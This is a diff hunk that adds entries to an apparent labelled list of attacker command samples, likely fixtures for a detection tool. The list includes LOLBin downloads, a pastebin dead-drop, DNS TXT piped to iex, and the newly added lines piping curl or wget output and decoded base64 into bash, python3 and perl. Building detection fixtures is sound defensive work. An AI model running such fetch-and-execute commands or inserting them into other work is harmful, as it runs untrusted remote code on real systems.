@@ -87,6 +87,10 @@ mpcmdrun-download: MpCmdRun.exe -DownloadFile -url http://example.test/a -path a
 lolbin-download: certoc.exe -GetCACAPS http://example.test/a
 host-file-to-temp: copy \\server1\share\a.txt .
 dead-drop: curl https://pastebin.com/raw/abc
+webdav-share: net use Z: \\files.example.test@SSL\DavWWWRoot\x
+decode-to-shell: echo ZQ== | base64 -d | bash
+download-to-python: curl -s http://example.test/x.py | python3 -
+download-to-interpreter: wget -qO- http://example.test/x | perl
 dns-txt-payload: nslookup -q=txt a.example.test | iex
 interpreter-download: python3 -c "import urllib.request;urllib.request.urlopen('http://example.test')"
 registry-write: reg add HKCU\Software\Example /v a /d b
